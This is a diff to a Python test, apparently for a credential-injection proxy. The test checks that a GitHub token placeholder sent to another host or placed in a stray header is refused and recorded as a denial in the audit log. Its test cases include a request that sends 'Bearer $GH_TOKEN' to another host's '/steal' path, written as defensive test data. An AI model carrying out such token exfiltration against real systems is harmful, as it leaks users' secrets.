@@ -169,7 +169,7 @@ def test_basic_credentials_and_a_query_parameter_are_swapped_in_their_own_place(
     ],
 )
 def test_the_placeholder_anywhere_else_is_refused_and_audited(world: SimpleNamespace, case: str) -> None:
-    before = len(world.origin.seen)
+    before, logged = len(world.origin.seen), len(audit(world))
     attempt = {
         "another host, in the header": get(world, f"{OTHER}:PORT/steal", "Authorization: Bearer $GH_TOKEN").replace("https://", "http://"),
         "another header of its host": get(world, f"{API}:PORT/x", "X-Debug: $GH_TOKEN"),
@@ -184,7 +184,7 @@ def test_the_placeholder_anywhere_else_is_refused_and_audited(world: SimpleNames
     seen = world.origin.seen[before:]
     assert [entry["path"] for entry in seen] == ["/fine"], seen  # the attempt never reached an origin whole
     assert all(SECRET not in json.dumps(entry, default=str) or entry["path"] == "/fine" for entry in seen)
-    denials = [r for r in audit(world) if r.get("decision") == "deny" and "credential GH_TOKEN" in str(r.get("rule"))]
+    denials = [r for r in audit(world)[logged:] if r.get("decision") == "deny" and "credential GH_TOKEN" in str(r.get("rule"))]
     assert denials, (case, audit(world)[-3:])
     assert SECRET not in audit_text(world)
 
